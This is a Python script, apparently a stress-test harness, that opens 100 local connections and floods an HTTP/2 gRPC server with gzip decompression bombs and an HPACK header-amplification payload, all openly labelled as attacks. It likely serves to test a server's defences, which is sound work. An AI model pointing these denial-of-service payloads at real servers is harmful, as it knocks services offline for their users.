"""An attack in a process of its own: many connections whose requests cost a server most.

python staller.py PORT NAME SECONDS

It prints a line when all its connections are made, waits for one, and then sends and reads as fast
as the server lets it.
"""

import gzip
import selectors
import socket
import sys
import time

from raw_peer import (
    DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, WIDE, envelope, frame, literal, settings,
    window_update,
)  # fmt: skip

CONNECTIONS = 100
CALLS = 32
BOMB = gzip.compress(bytes(4 << 20))


def block(path, **more):
    """The fields of a request, in a form that no table remembers."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
        "te": "trailers", "content-type": "application/grpc", **more,
    }  # fmt: skip
    return b"".join(literal(name, value) for name, value in fields.items())


def bombs(path):
    """Calls whose messages expand a thousandfold: one field of bytes that no message has."""
    head = block(path, **{"grpc-encoding": "gzip"})
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, head)
        + frame(DATA, END_STREAM, stream, envelope(BOMB, 1))
        for stream in range(1, 2 * CALLS, 2))


def heads():
    """Heads of a few bytes that stand for 55 KB of fields: they repeat one field of a table."""
    flags = END_HEADERS | END_STREAM
    entry = b"\x40\x01a" + b"\x7f\xc9\x1e" + b"x" * 4_040
    first = frame(HEADERS, flags, 1, block("/grpc.health.v1.Health/Check") + entry)
    # POST, http and /, as the static table has them.
    again = b"\x83\x86\x84" + bytes([0x80 | 62]) * 13
    return first + b"".join(frame(HEADERS, flags, stream, again) for stream in range(3, 40_001, 2))


ATTACKS = {
    "bombs_without_a_credential": lambda: bombs("/grpc.health.v1.Health/Check"),
    "bombs_of_callers": lambda: bombs("/relation.v1.FriendService/CheckFriends"),
    "heads": heads,
}


def attack(port, sent, seconds):
    waiting = selectors.DefaultSelector()
    for _ in range(CONNECTIONS):
        one = socket.create_connection(("127.0.0.1", port))
        one.setblocking(False)
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        waiting.register(one, both, memoryview(sent))
    print("ready", flush=True)
    sys.stdin.readline()
    end = time.monotonic() + seconds
    while time.monotonic() < end and waiting.get_map():
        for key, events in waiting.select(timeout=0.1):
            try:
                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
                    waiting.unregister(key.fileobj)
                    continue
                if events & selectors.EVENT_WRITE:
                    rest = key.data[key.fileobj.send(key.data[: 1 << 16]) :]
                    both = selectors.EVENT_READ | (selectors.EVENT_WRITE if rest else 0)
                    waiting.modify(key.fileobj, both, rest)
            except OSError:
                waiting.unregister(key.fileobj)


if __name__ == "__main__":
    beginning = PREFACE + settings() + window_update(0, WIDE)
    attack(int(sys.argv[1]), beginning + ATTACKS[sys.argv[2]](), float(sys.argv[3]))
